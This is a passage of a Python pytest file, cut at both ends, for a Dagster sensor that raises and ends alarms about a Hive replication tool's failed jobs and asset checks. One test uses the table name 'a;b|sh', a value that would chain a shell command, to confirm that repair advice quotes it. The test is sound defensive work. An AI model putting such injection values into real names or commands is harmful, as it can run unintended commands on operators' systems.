    watch.run(success=True, **repair_of("days"))
    assert watch.tick(WELL) == "no alarms"


def test_a_repair_of_all_held_tables_that_failed_ends_once_none_is_held(watch: Watch) -> None:
    watch.tick(HELD)
    watch.fail("the process of this run ended, see the log", job_name="repair_sales", tags=OF_SALES)
    watch.tick(HELD)
    watch.now += 600
    assert watch.tick(WELL) == "no alarms"


def test_a_table_that_the_source_refuses_to_show_is_not_dropped() -> None:
    def refused(database: str, table: str) -> None:
        raise MetastoreError(f"{database}.{table}: not allowed")

    connection: Any = SimpleNamespace(source=SimpleNamespace(metastore=SimpleNamespace(table=refused, table_names=refused_all)))
    assert DroppedTables().of(connection, {"sales": {"orders"}}) == {"sales": []}


def refused_all(database: str) -> list[str]:
    raise MetastoreError(f"{database}: not allowed")


def test_dropped_tables_are_all_found_after_some_ticks_and_not_taken_for_dropped_once_they_are_back() -> None:
    """Always the same first hundred were asked for, also where the source refused to show them."""
    secret, tables = [f"a{number:03}" for number in range(150)], [f"t{number:03}" for number in range(150)]
    listed = list[str]()

    def table(_: str, name: str) -> None:
        if name in secret:
            raise MetastoreError(f"{name}: not allowed")

    def table_names(_: str) -> list[str]:
        return listed

    connection: Any = SimpleNamespace(source=SimpleNamespace(metastore=SimpleNamespace(table=table, table_names=table_names)))
    dropped, asked = DroppedTables(), {"sales": [*secret, *tables]}
    assert [len(dropped.of(connection, asked)["sales"]) for _ in range(4)] == [0, 50, 150, 150]
    listed.append("t000")
    assert dropped.of(connection, asked) == {"sales": tables[1:]}


@pytest.mark.parametrize(("listed", "most"), [(1_000, 0), (998, 2), (0, 100)])
def test_a_tick_asks_for_few_of_the_tables_of_a_failed_run(listed: int, most: int, watch: Watch) -> None:
    tables, asked = [f"t{number:04}" for number in range(1_000)], list[str]()
    metastore = SimpleNamespace(table_names=lambda _: tables[:listed], table=lambda _, name: asked.append(name))
    connection: Any = SimpleNamespace(source=SimpleNamespace(metastore=metastore))
    assert DroppedTables().of(connection, {"sales": tables}) == {"sales": tables[listed:][:most]}
    assert len(asked) == most
    watch.tick(WELL)
    watch.fail("no space", NAMES.table("sales", "orders", "load"))
    watch.tick(WELL)
    alarms = read_cursor(watch.cursor).alarms.values()
    assert mended_runs.to_repair(alarms, watch.now) == {}, "its end is not decided yet"
    assert mended_runs.to_repair(alarms, watch.now + 600) == {"sales": {"orders"}}


def test_a_failed_look_for_drift_ends_once_a_later_round_left_nothing_to_a_run(
    web: WebServer, watch: Watch, monkeypatch: pytest.MonkeyPatch
) -> None:
    rounds: dict[str, float] = {}
    monkeypatch.setattr(sensor, "all_in_ticks", lambda *_: rounds)
    watch.policy = POLICY.model_copy(update={"drift": Drift()})
    watch.tick(WELL)
    watch.run(success=False, job_name="find_drift_sales", tags=OF_SALES)
    rounds["sales"] = watch.now
    watch.tick(WELL)
    watch.now += 3600
    assert watch.tick(WELL) == "1 alarm: run failure: job find_drift_sales", "the round began before"
    rounds["sales"] = watch.now
    web.take()
    assert watch.tick(WELL) == "no alarms"
    assert notified(web) == [("ends", "run failure", "job find_drift_sales")]


@pytest.mark.parametrize(("why", "ends"), [("2 lanes failed: no space", True), ("the target's metastore does not answer", False)])
def test_a_rebuild_that_left_tables_held_ends_once_none_is(why: str, ends: bool, web: WebServer, watch: Watch) -> None:
    watch.tick(WELL)
    watch.fail(why, job_name="rebuild_sales", tags=OF_SALES)
    watch.tick(HELD)
    watch.now += 600
    for lag in (HELD, replace(LATE, seconds_behind=5.0), replace(WELL, gap="purged", seconds_behind=None)):
        assert "run failure: job rebuild_sales" in watch.tick(lag)
    web.take()
    assert watch.tick(WELL) == ("no alarms" if ends else "1 alarm: run failure: job rebuild_sales")
    assert (("ends", "run failure", "job rebuild_sales") in notified(web)) == ends


@pytest.mark.parametrize(
    ("job", "error", "is_told"),
    [
        ("pause_sales", BadRequest("sales has no replica yet"), False),
        ("plan_sales", Refused("sales is another's"), False),
        ("resume_sales", Unreachable("nobody answers"), True),
        ("rebuild_sales", Refused("sales is another's"), True),
    ],
)
def test_what_an_operator_asks_for_in_vain_is_no_alarm(job: str, error: ReplicationError, is_told: bool, watch: Watch) -> None:
    @dg.op(out=dg.Out(dg.Nothing))
    def fails() -> None:
        with as_dagster_failure():
            raise error

    watch.tick(WELL)
    made = single_op_job(fails, name=job, description="", tags=OF_SALES)
    made.execute_in_process(instance=watch.instance, raise_on_error=False)
    assert watch.tick(WELL) == (f"1 alarm: run failure: job {job}" if is_told else "no alarms")


@pytest.mark.parametrize("job", ["rebuild_sales", "pause_sales", "resume_sales", "failover_sales"])
def test_a_failed_job_of_a_database_that_the_source_dropped_ends(job: str, web: WebServer, watch: Watch) -> None:
    """No later run of it can succeed."""
    left = replace(WELL, stopped="paused since then by anna" if job == "resume_sales" else "")
    watch.tick(left)
    watch.run(success=False, job_name=job, tags=OF_SALES)
    watch.tick(left)
    watch.now += 3600
    assert watch.tick(left) == f"1 alarm: run failure: job {job}"
    web.take()
    watch.tick(replace(left, applied=None, in_source=False))
    assert ("ends", "run failure", f"job {job}") in notified(web)


PAUSED = replace(WELL, stopped="paused since then by anna")
UNREADABLE = replace(WELL, applied=None, gap="repl.last.id was edited", unreadable=True)
HIDDEN = replace(WELL, applied=None, gap="not allowed", hidden="target")


@pytest.mark.parametrize(
    ("job", "left", "done"),
    [
        ("pause_sales", [WELL, LATE, UNREADABLE], PAUSED),
        ("pause_sales", [WELL], replace(WELL, stopped="opened by a failover")),
        ("resume_sales", [PAUSED, UNREADABLE, HIDDEN], LATE),
        ("resume_sales", [PAUSED], replace(WELL, gap="purged", seconds_behind=None)),
        ("plan_sales", [], LATE),
        ("plan_sales", [], UNREADABLE),
    ],
)
def test_what_an_operator_did_by_the_command_line_ends_the_alarm_of_the_failed_job(
    job: str, left: list[Lag], done: Lag, web: WebServer, watch: Watch
) -> None:
    """No further run of the job comes."""
    watch.tick(WELL)
    watch.run(success=False, job_name=job, tags=OF_SALES)
    watch.run(success=False, job_name=job.replace("sales", "hr"), tags=OF_SALES | {DATABASE_TAG: "hr"})
    watch.policy = with_databases("sales", "hr")
    watch.tick(done)
    watch.now += 600
    watch.tick()
    for lag in left:
        assert f"run failure: job {job}" in watch.tick(lag)
    web.take()
    assert f"run failure: job {job}" not in watch.tick(done)
    assert [one for one in notified(web) if one[1] == "run failure"] == [("ends", "run failure", f"job {job}")], "not that of hr"


@pytest.mark.parametrize(
    ("done", "lag"), [("replicating", WELL), ("finished", PAUSED), ("failed back", WELL), ("no replica", WELL)]
)
def test_a_failed_failover_ends_once_none_is_under_way(done: Phase, lag: Lag, web: WebServer, watch: Watch) -> None:
    """Its steps were taken by the command line, or taken back; an open target may have an old source that is not closed."""
    under_way: list[Phase | None] = ["started", "ready", "opened", "to be reversed", None]
    watch.tick(WELL)
    watch.run(success=False, job_name="failover_sales", tags=OF_SALES)
    watch.phase = done
    watch.tick(lag)
    watch.tick(lag)
    watch.now += 600
    for phase in under_way:
        watch.phase = phase
        for here in (lag, replace(WELL, stopped="opened by a failover"), replace(WELL, stopped=HALF_REVERSED)):
            assert "run failure: job failover_sales" in watch.tick(here)
    web.take()
    watch.phase = done
    watch.tick(lag)
    assert ("ends", "run failure", "job failover_sales") in notified(web)


@pytest.mark.parametrize(("config", "ends"), [({}, False), ({"step": "plan"}, False), ({"step": "start"}, True)])
def test_a_plan_does_not_end_the_alarm_of_a_failover(config: dict[str, str], ends: bool, watch: Watch) -> None:
    """An operator who looks what is left to do has not done it."""
    watch.tick(WELL)
    watch.run(success=False, job_name="failover_sales", tags=OF_SALES)
    watch.tick(WELL)
    run_config = {"ops": {"failover_sales__step": {"config": config}}}
    watch.run(success=True, job_name="failover_sales", tags=OF_SALES, run_config=run_config)
    assert ("run failure: job failover_sales" not in watch.tick(WELL)) is ends


def test_phases_are_asked_of_the_databases_of_failed_failovers_only(watch: Watch) -> None:
    watch.tick(WELL)
    watch.run(success=False, job_name="failover_sales", tags=OF_SALES)
    watch.run(success=False, job_name="failover_hr", tags={POLICY_TAG: "default", DATABASE_TAG: "hr"})
    watch.run(success=False, job_name="pause_shop", tags={POLICY_TAG: "default", DATABASE_TAG: "shop"})
    watch.policy = with_databases("sales", "hr", "shop")
    watch.tick(WELL)
    alarms = read_cursor(watch.cursor).alarms.values()
    assert mended_runs.failovers(alarms, NAMES, watch.now) == [], "their ends are not decided yet"
    assert mended_runs.failovers(alarms, NAMES, watch.now + 600) == ["hr", "sales"]


def test_the_phase_of_a_database_whose_marks_cannot_be_read_is_not_known() -> None:
    def database(name: str) -> Database:
        if name == "secret":
            raise MetastoreError("not allowed")
        return Database(name=name, parameters=FailoverMarks(origin="s/sales" if name == "replica" else "").parameters())

    policy = SimpleNamespace(target_of=lambda name: "replica" if name == "sales" else name)
    side = SimpleNamespace(metastore=SimpleNamespace(database=database), identity="s", policy=policy)
    connection: Any = SimpleNamespace(source=side, target=side)
    assert phases_of(connection, ["sales", "secret"]) == {"sales": "opened"}


@pytest.mark.parametrize(("drift", "lag"), [(None, WELL), (Drift(), replace(WELL, applied=None, in_source=False))])
def test_a_failed_look_for_drift_ends_where_no_other_one_comes(
    drift: Drift | None, lag: Lag, web: WebServer, watch: Watch
) -> None:
    watch.policy = POLICY.model_copy(update={"drift": Drift()})
    watch.tick(WELL)
    watch.run(success=False, job_name="find_drift_sales", tags=OF_SALES)
    watch.tick(WELL)
    watch.now += 3600
    assert watch.tick(WELL) == "1 alarm: run failure: job find_drift_sales"
    web.take()
    watch.policy = POLICY.model_copy(update={"drift": drift})
    watch.tick(lag)
    assert ("ends", "run failure", "job find_drift_sales") in notified(web)


def test_a_run_that_others_overtake(web: WebServer, watch: Watch) -> None:
    load, other = NAMES.database("sales", "load"), dg.AssetKey(["other", "hr__load"])
    long = create_run_for_test(watch.instance, asset_selection=frozenset([load]), status=dg.DagsterRunStatus.STARTED)
    watch.tick(WELL)
    for _ in range(100):
        watch.run(other, success=True)
    watch.run(load, success=True)
    watch.tick(WELL)
    watch.instance.report_run_failed(long)
    watch.tick(WELL)
    assert notified(web) == [("begins", "run failure", "windows of sales")]
    watch.instance.add_run_tags(long.run_id, {"seen by": "an operator"})  # Dagster counts it as updated
    watch.run(load, success=True)
    watch.tick(WELL)
    watch.tick(WELL)
    assert notified(web) == [("ends", "run failure", "windows of sales")]


def test_many_runs_that_ended_meanwhile(web: WebServer, watch: Watch, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(failed_runs, "_MOST_RUNS", 3)
    watch.policy = with_databases(*(f"d{number}" for number in range(5)))
    watch.now = time.time()
    watch.tick(WELL)
    for number in range(5):
        key = NAMES.database(f"d{number}", "load")
        run = create_run_for_test(watch.instance, asset_selection=frozenset([key]), status=dg.DagsterRunStatus.STARTED)
        watch.instance.report_run_failed(run)
    for _ in range(3):
        watch.tick(WELL)
    assert [about for _, _, about in notified(web)] == [f"windows of d{number}" for number in range(5)]


def ends_at(instance: dg.DagsterInstance, key: dg.AssetKey, when: float, kind: str = "PIPELINE_FAILURE") -> str:
    """A run that ends at a time of its host's clock."""
    run = create_run_for_test(instance, asset_selection=frozenset([key]), status=dg.DagsterRunStatus.STARTED)
    instance.report_dagster_event(dg.DagsterEvent(kind, run.job_name), run.run_id, timestamp=when)
    return run.run_id


@pytest.mark.parametrize("behind", [0, 120, 840, -840])
def test_a_failed_run_on_a_host_whose_clock_is_behind_or_ahead_is_told_once(behind: int, web: WebServer, watch: Watch) -> None:
    """Dagster tells the end of a run by the clock of its host: one that was a minute behind raised no alarm."""
    watch.now = time.time()
    ends_at(watch.instance, NAMES.database("sales", "load"), watch.now - 300)
    watch.tick(LATE)
    assert watch.tick(LATE) == "1 alarm: lag: sales", "it ended before the sensor began"
    web.take()
    run_id = ends_at(watch.instance, NAMES.database("sales", "load"), watch.now - behind)
    watch.tick(LATE)
    assert notified(web) == [("begins", "run failure", "windows of sales")]
    ends_at(watch.instance, NAMES.database("sales", "load"), watch.now, "PIPELINE_SUCCESS")
    for tick_number in range(35):
        watch.tick(LATE)
        if tick_number in (1, 16, 34):  # Dagster counts it as updated
            watch.instance.add_run_tags(run_id, {"seen by": f"an operator {tick_number}"})
    assert notified(web) == [("ends", "run failure", "windows of sales")]


def test_of_many_runs_each_is_told_once_whenever_they_ended(watch: Watch, monkeypatch: pytest.MonkeyPatch) -> None:
    """2,500 in a quarter of an hour, of which a query reads 1,000, in small: reading some again keeps none back."""
    monkeypatch.setattr(failed_runs, "_MOST_RUNS", 40)
    own, other, now = NAMES.database("sales", "load"), NAMES.database("hr", "load"), time.time()
    _, seen = failed_runs.outcomes(watch.instance, NAMES, ["sales"], SeenRuns(now), now)
    expected = {ends_at(watch.instance, own, now + 9 * (number // 7 * 7)) for number in range(100)}  # seven end at a time
    for number in range(100):
        ends_at(watch.instance, other, now + 9 * number)
    found, ticks = list[str](), list[float]()
    for tick_number in range(10):
        at = now + 900 + 60 * tick_number
        told, seen = failed_runs.outcomes(watch.instance, NAMES, ["sales"], seen, at)
        found += [one.run.run_id for one in told]
        ticks.append(seen.since)
        if tick_number in (2, 7):  # while it catches up, and later
            expected.add(ends_at(watch.instance, own, seen.since - 800))
    assert sorted(found) == sorted(expected)
    assert ticks == sorted(set(ticks)), "each tick comes further"
    assert ticks[-1] == at, "and they have caught up"


def test_failed_checks(web: WebServer, watch: Watch) -> None:
    equal = dg.AssetCheckKey(NAMES.table("sales", "orders", "load"), "replica_equal")
    same = dg.AssetCheckKey(NAMES.database("sales", "load"), "same_objects")
    watch.checks = told([equal, same, dg.AssetCheckKey(same.asset_key, "nothing_held")])
    assert watch.checks == [equal, same]
    watch.answer(same, passed=True)
    watch.answer(equal, passed=False, why="nobody answers", warn=True)
    assert watch.tick(WELL) == "no alarms"
    watch.answer(equal, passed=False, why="file a is\non the source only")
    assert watch.tick(WELL) == "1 alarm: failed check: replica_equal of sales/orders"
    (alarm,) = web.take()["/hook"]["alarms"]
    assert alarm["title"] == "the check replica_equal of sales.orders failed: file a is on the source only"
    assert "hive-repl repair sales.orders" in alarm["advice"]
    assert alarm["url"].endswith("/assets/default/sales/orders?view=checks&checkDetail=replica_equal")
    assert watch.tick().startswith("2 alarms: failed check"), "an outage says nothing of checks"
    assert notified(web) == [("begins", "unreachable", "source or target")]
    watch.answer(equal, passed=True)
    assert watch.tick(WELL) == "no alarms"
    assert set(notified(web)) == {
        ("ends", "unreachable", "source or target"),
        ("ends", "failed check", "replica_equal of sales/orders"),
    }


def test_what_the_check_no_strays_finds_is_not_to_be_repaired(web: WebServer, watch: Watch) -> None:
    strays = dg.AssetCheckKey(NAMES.database("sales", "load"), "no_strays")
    watch.checks = [strays]
    watch.answer(strays, passed=False)
    watch.tick(WELL)
    (alarm,) = web.take()["/hook"]["alarms"]
    assert "repair" not in alarm["advice"]
    assert "delete the rest by hand" in alarm["advice"]


def test_a_check_that_cannot_decide_ends_no_alarm(web: WebServer, watch: Watch) -> None:
    same = dg.AssetCheckKey(NAMES.database("sales", "load"), "same_objects")
    rows = dg.AssetCheckKey(NAMES.tables("sales"), "row_counts")
    watch.checks, watch.of_partitions = [same], [rows]
    watch.answer(same, passed=False, why="orders: file a is on the source only")
    watch.answer(rows, "orders", passed=False)
    assert watch.tick(WELL).startswith("2 alarms: failed check")
    assert {state for state, *_ in notified(web)} == {"begins"}
    watch.answer(same, passed=False, why="nobody answers", warn=True)
    watch.answer(rows, "orders", passed=False, why="Spark cannot read it", warn=True)
    assert watch.tick(WELL).startswith("2 alarms: failed check")
    assert notified(web) == []
    watch.answer(same, passed=True)
    watch.answer(rows, "orders", passed=True)
    assert watch.tick(WELL) == "no alarms"
    assert {state for state, *_ in notified(web)} == {"ends"}


def test_a_check_that_cannot_decide_three_times_in_a_row_is_an_alarm(web: WebServer, watch: Watch) -> None:
    """Nobody heard that a database was compared no more, for as long as it lasted."""
    same = dg.AssetCheckKey(NAMES.database("sales", "load"), "same_objects")
    rows = dg.AssetCheckKey(NAMES.tables("sales"), "row_counts")
    watch.checks, watch.of_partitions = [same], [rows]
    for passed in (True, False, False):
        watch.answer(same, passed=passed, why="get_database refused", warn=True)
        watch.answer(rows, "orders", passed=passed, why="Spark cannot read it", warn=True)
    assert watch.tick(WELL) == "no alarms"
    watch.answer(same, passed=False, why="get_database refused", warn=True)
    watch.answer(rows, "orders", passed=False, why="Spark cannot read it", warn=True)
    assert watch.tick(WELL).startswith("2 alarms: failed check")
    titles = {one["title"] for one in web.take()["/hook"]["alarms"]}
    assert "the check same_objects of sales could not decide 3 times in a row: get_database refused" in titles
    watch.answer(same, passed=True)
    watch.answer(rows, "orders", passed=True)
    assert watch.tick(WELL) == "no alarms"


def test_a_check_that_reads_no_such_table_raises_no_alarm(web: WebServer, watch: Watch) -> None:
    """An Avro table alarmed of each check of rows from the third night on, and nothing ended it."""
    rows = dg.AssetCheckKey(NAMES.table("sales", "events", "load"), "row_counts")
    watch.checks = [rows]
    watch.answer(rows, passed=False, why="one row is missing")  # while it was an ORC table
    assert watch.tick(WELL) == "1 alarm: failed check: row_counts of sales/events"
    for _ in range(3):
        evaluation = findings.Finding(undecided="Spark does not know avro by itself", never=True).evaluation(EvaluationKey(rows))
        watch.instance.report_runless_asset_event(evaluation)
        assert watch.tick(WELL) == "no alarms"
    assert [state for state, *_ in notified(web)] == ["begins", "ends"]


def test_many_failed_checks_of_a_database_are_one_alarm(web: WebServer, watch: Watch) -> None:
    watch.checks = [dg.AssetCheckKey(NAMES.table("sales", f"t{number}", "load"), "schema_equal") for number in range(21)]
    for check in watch.checks:
        watch.answer(check, passed=False)
    assert watch.tick(WELL) == "1 alarm: failed check: sales"
    (alarm,) = web.take()["/hook"]["alarms"]
    assert alarm["title"].startswith("more than 20 checks of sales fail, among them schema_equal of sales/t0")


def test_many_checks_that_could_not_decide_are_no_failed_ones(web: WebServer, watch: Watch) -> None:
    """They were told as checks that fail, with a repair of the whole database as what to do."""
    watch.checks = [dg.AssetCheckKey(NAMES.table("sales", f"t{number}", "load"), "replica_equal") for number in range(25)]
    for check in watch.checks * 3:
        watch.answer(check, passed=False, why="denied", warn=True)
    assert watch.tick(WELL) == "1 alarm: failed check: undecided checks of sales"
    (alarm,) = web.take()["/hook"]["alarms"]
    assert alarm["title"].startswith("more than 20 checks of sales could not decide 3 times in a row, among them replica_equal")
    assert "repair" not in alarm["advice"]
    for check in watch.checks[:20]:
        watch.answer(check, passed=True)
    assert watch.tick(WELL).startswith("5 alarms: failed check: replica_equal of sales/t")


@pytest.mark.parametrize(("warn", "key"), [(False, "sales"), (True, "undecided checks of sales")])
def test_the_alarm_of_many_checks_stays_while_they_are_answered_again(
    warn: bool, key: str, web: WebServer, watch: Watch, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each round of checks ended it, and began it again."""
    monkeypatch.setattr(failed_checks, "_MOST", 2)
    watch.checks = [dg.AssetCheckKey(NAMES.table("sales", f"t{number}", "load"), "replica_equal") for number in range(4)]
    for check in watch.checks * 3:
        watch.answer(check, passed=False, why="denied", warn=warn)
    assert watch.tick(WELL) == f"1 alarm: failed check: {key}"
    web.take()
    for check in watch.checks:
        watch.announce(check)
    assert watch.tick(WELL) == f"1 alarm: failed check: {key}"
    watch.answer(watch.checks[0], passed=True)
    assert watch.tick(WELL) == f"1 alarm: failed check: {key}", "three are still to come"
    assert notified(web) == []
    watch.answer(watch.checks[1], passed=True)
    assert watch.tick(WELL).startswith("2 alarms: "), "each of the others failed when it was answered last"
    for check in watch.checks[2:]:
        watch.answer(check, passed=True)
    assert watch.tick(WELL) == "no alarms"


@pytest.mark.parametrize("status", [dg.DagsterRunStatus.STARTED, dg.DagsterRunStatus.FAILURE])
def test_an_announced_answer_hides_no_failed_one(status: dg.DagsterRunStatus, web: WebServer, watch: Watch) -> None:
    """Runs announce checks and die, or leave them out: the failure before was neither told nor repaired."""
    check = dg.AssetCheckKey(NAMES.table("sales", "orders", "load"), "replica_equal")
    other = dg.AssetCheckKey(check.asset_key, "schema_equal")
    of_tables = dg.AssetCheckKey(NAMES.tables("hr"), "replica_equal")
    watch.checks, watch.of_partitions = [check, other], [of_tables]
    watch.policy, overflow = with_databases("sales", "hr"), replace(NAMES, overflow=frozenset({"hr"}))

    def failed() -> list[list[str]]:
        tables = ["orders", "items"]
        return [failed_tables(watch.instance, overflow, database, "replica_equal", tables) for database in ("sales", "hr")]

    watch.answer(check, passed=False, why="differs")
    watch.answer(of_tables, "staff", passed=False, why="differs")
    for partition in ("never", "staff"):
        watch.announce(of_tables, partition, status=status)
    for one in (check, other):
        watch.announce(one, status=status)
    assert failed() == [["orders"], ["staff"]]
    both = "2 alarms: failed check: replica_equal of sales/orders; failed check: replica_equal of hr/staff"
    assert watch.tick(replace(WELL), replace(WELL, database="hr")) == both
    for one, partition in ((check, None), (of_tables, "staff")):
        watch.answer(one, partition, passed=True)
        watch.announce(one, partition, status=status)
    assert failed() == [[], []]
    assert watch.tick(WELL, replace(WELL, database="hr")) == "no alarms"
    assert [state for state, *_ in notified(web)] == ["begins", "begins", "ends", "ends"]


def test_many_announced_answers_of_tables_hide_no_failed_one(watch: Watch, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(failed_checks, "_MOST_READ", 1)
    equal = dg.AssetCheckKey(NAMES.tables("sales"), "replica_equal")
    watch.of_partitions = [equal]
    watch.answer(equal, "z", passed=False, why="differs")
    for partition in ("a", "b", "z"):
        watch.announce(equal, partition)
    assert watch.tick(WELL) == "1 alarm: failed check: replica_equal of sales/z"


def test_announced_checks_are_read_again_by_few_statements(watch: Watch, monkeypatch: pytest.MonkeyPatch) -> None:
    """There are thousands in an instance, and a tick ends within a minute."""
    statements = 0

    def newest(*arguments: Any) -> Any:
        nonlocal statements
        statements += 1
        return kept(*arguments)

    kept = answered._newest
    monkeypatch.setattr(answered, "_newest", newest)
    monkeypatch.setattr(answered, "_CHUNK", 4)
    watch.checks = [
        dg.AssetCheckKey(NAMES.table("sales", f"t{number}", "load"), name)
        for number in range(4)
        for name in ("replica_equal", "schema_equal")
    ]
    for check in watch.checks:
        watch.answer(check, passed=check.name == "schema_equal")
    assert watch.tick(WELL).startswith("4 alarms: ")
    assert statements == 0, "those that are answered are not read again"
    for check in watch.checks[:6]:
        watch.announce(check)
    assert watch.tick(WELL).startswith("4 alarms: ")
    assert statements == 2


def test_the_alarm_of_many_failed_checks_ends_though_many_others_never_decide(
    watch: Watch, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Spark is missing, say: the alarm advised to repair the whole database after each of its checks had passed."""
    monkeypatch.setattr(failed_checks, "_MOST", 2)
    monkeypatch.setattr(failed_checks, "_MOST_UNDECIDED", 3)
    failing, rows = (
        [dg.AssetCheckKey(NAMES.table("sales", f"t{number}", "load"), name) for number in range(6)]
        for name in ("replica_equal", "rows_equal")
    )
    watch.checks = [*failing, *rows]
    for check in rows * 3:
        watch.answer(check, passed=False, why="no Spark", warn=True)
    for check in failing:
        watch.answer(check, passed=False, why="differs")
    assert watch.tick(WELL) == "2 alarms: failed check: sales; failed check: undecided checks of sales"
    for check in failing:
        watch.answer(check, passed=True)
    assert watch.tick(WELL) == "1 alarm: failed check: undecided checks of sales"


@pytest.mark.parametrize("most", [3, 4])
def test_the_alarm_of_a_database_waits_for_checks_that_could_not_decide_while_those_of_others_never_do(
    most: int, web: WebServer, watch: Watch, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its end would be told though none of them has passed."""
    monkeypatch.setattr(failed_checks, "_MOST", 2)
    monkeypatch.setattr(failed_checks, "_MOST_UNDECIDED", most)
    rows, failing = (
        [dg.AssetCheckKey(NAMES.table(database, f"t{number}", "load"), "rows_equal") for number in range(3)]
        for database in ("alone", "sales")
    )
    watch.checks = [*rows, *failing]
    for check in rows * 3:
        watch.answer(check, passed=False, why="no Spark", warn=True)
    for check in failing:
        watch.answer(check, passed=False, why="differs")
    assert "failed check: sales" in watch.tick(WELL)
    web.take()
    for check in failing:
        watch.answer(check, passed=False, why="no Spark", warn=True)
    assert "failed check: sales" in watch.tick(WELL)
    assert notified(web) == []


def test_failed_checks_of_tables_that_are_partitions_of_one_asset(web: WebServer, watch: Watch) -> None:
    equal = dg.AssetCheckKey(NAMES.tables("sales"), "replica_equal")
    watch.of_partitions = [equal]
    for table in ("items", "orders"):
        watch.answer(equal, table, passed=False, why=f"file {table} differs")
    watch.answer(equal, "refunds", passed=False, why="Spark cannot read it", warn=True)
    watch.answer(equal, passed=False, why="2 of 3 tables")  # of all tables together
    watch.answer(equal, "orders", passed=True)
    assert watch.tick(WELL) == "1 alarm: failed check: replica_equal of sales/items"
    (alarm,) = web.take()["/hook"]["alarms"]
    assert alarm["title"] == "the check replica_equal of sales.items failed: file items differs"
    assert "hive-repl repair sales.items" in alarm["advice"]
    assert alarm["url"].endswith("/assets/default/sales__tables?view=checks&checkDetail=replica_equal")
    watch.answer(equal, "items", passed=True)
    assert watch.tick(WELL) == "no alarms"
    web.take()
    watch.answer(equal, "a;b|sh", passed=False)
    watch.tick(WELL)
    (alarm,) = web.take()["/hook"]["alarms"]
    assert "hive-repl repair 'sales.`a;b|sh`'" in alarm["advice"], "a name that a shell would run"
    for number in range(21):
        watch.answer(equal, f"t{number}", passed=False)
    assert watch.tick(WELL) == "1 alarm: failed check: sales"


@pytest.mark.parametrize("undecided", [False, True])
def test_failed_checks_of_a_database_that_the_source_dropped_end(undecided: bool, web: WebServer, watch: Watch) -> None:
    """Nothing answers for it again, or only that it cannot be compared, and Dagster keeps the answer."""
    same, strays = (dg.AssetCheckKey(NAMES.database("sales", "load"), name) for name in ("same_objects", "no_strays"))
    watch.checks = [same, strays]
    watch.answer(same, passed=False, why="orders is not at the target")
    watch.answer(strays, passed=False)
    assert watch.tick(WELL).startswith("2 alarms: ")
    if undecided:
        watch.answer(same, passed=False, why="no such database", warn=True)
    web.take()
    dropped = replace(WELL, applied=None, in_source=False)
    assert watch.tick(dropped) == "no alarms"
    assert len(notified(web)) == 2
    assert watch.tick(dropped) == "no alarms"
    assert watch.tick().startswith("1 alarm: unreachable"), "nobody knows better"
    watch.tick(dropped)
    assert not [one for one in notified(web) if one[1] == "failed check"], "they do not begin again"
    watch.answer(same, passed=False, why="orders is not at the target")
    watch.tick(WELL)
    assert watch.tick(WELL).startswith("2 alarms: "), "the database is there again"


def test_a_failed_check_of_a_table_that_is_dropped_ends(web: WebServer, watch: Watch) -> None:
    """Nothing answers for the table again, and Dagster keeps the answer."""
    equal = dg.AssetCheckKey(NAMES.tables("sales"), "replica_equal")
    watch.of_partitions, known = [equal], str(NAMES.table_partitions("sales").name)
    watch.instance.add_dynamic_partitions(known, ["items", "orders"])
    watch.answer(equal, "items", passed=False)
    assert watch.tick(WELL) == "1 alarm: failed check: replica_equal of sales/items"
    overflow = replace(NAMES, overflow=frozenset({"sales"}))
    assert failed_tables(watch.instance, overflow, "sales", "replica_equal", ()) == ["items"]
    watch.instance.delete_dynamic_partition(known, "items")
    assert watch.tick(WELL) == "no alarms"
    assert [state for state, *_ in notified(web)] == ["begins", "ends"]
    assert failed_tables(watch.instance, overflow, "sales", "replica_equal", ()) == []
    assert failed_tables(watch.instance, overflow, "sales", "replica_equal", (), gone=True) == ["items"]


def test_open_alarms_are_on_the_page_of_their_database_and_in_the_log_of_each_tick(watch: Watch) -> None:
    key = dg.AssetCheckKey(NAMES.database("sales", "load"), "no_alarms")

    def answers() -> list[tuple[bool, str]]:
        found = watch.instance.event_log_storage.get_asset_check_execution_history(key, limit=20)
        evaluations = [one.evaluation for one in reversed(found) if one.evaluation]
        return [(one.passed, str(one.metadata["alarms"].value if "alarms" in one.metadata else "")) for one in evaluations]

    watch.tick(WELL)
    watch.tick(WELL)
    assert answers() == [(True, "")]
    # Dagster shows an answer that is older than the latest materialization as none.
    watch.instance.report_runless_asset_event(dg.AssetMaterialization(key.asset_key))
    time.sleep(1.1)  # it keeps whole seconds of answers
    watch.tick(WELL)
    assert answers() == [(True, "")] * 2
    watch.tick(LATE)
    watch.tick(LATE)
    *_, (passed, table) = answers()  # one answer for what goes on
    assert len(answers()) == 3
    assert not passed
    assert f"| {when(watch.now - 60)} | sales is 20 min behind (target 15 min), 50 events waiting | check " in table
    assert "[look](/assets/default/sales\\_\\_load)" in table or "[look](/assets/default/sales__load)" in table
    assert watch.log[-1].startswith(f"OPEN since {when(watch.now - 60)}: sales is 20 min behind")
    assert "What to do: check" in watch.log[-1]
    watch.tick()
    assert "nobody answers" in answers()[-1][1], "an outage is about each database"
    watch.policy = with_databases("sales", "hr")
    failed = watch.run(NAMES.database("hr", "load"), success=False)
    watch.tick(WELL)
    assert answers()[4:] == [(True, "")], f"{failed.run_id} is of another database"
    log = len(watch.log)
    by_hand = no_alarms_check(Specs(POLICY), CatalogDatabase("sales", "", "", "", (), ()))
    job = dg.Definitions(assets=[dg.AssetSpec(key.asset_key)], asset_checks=[by_hand]).resolve_implicit_global_asset_job_def()
    assert job.execute_in_process(instance=watch.instance).get_asset_check_evaluations()[0].passed
    watch.tick(LATE)
    assert watch.log[log:] != []
    assert not job.execute_in_process(instance=watch.instance).get_asset_check_evaluations()[0].passed


def test_the_alarm_says_why_a_run_failed(web: WebServer, watch: Watch) -> None:
    @dg.op
    def fails() -> None:
        raise dg.Failure("the target is full")

    @dg.job(name="record", tags={POLICY_TAG: "default"})
    def job() -> None:
        fails()

    watch.tick(WELL)
    job.execute_in_process(instance=watch.instance, raise_on_error=False)
    watch.tick(WELL)
    assert web.take()["/hook"]["alarms"][0]["title"] == "a run failed (job record): the target is full"


def test_a_run_that_failed_for_one_of_its_databases(web: WebServer, watch: Watch) -> None:
    """Independent steps go on where one fails: the others are loaded."""

    def asset(database: str, stage: Stage, failing: list[str]) -> dg.AssetsDefinition:
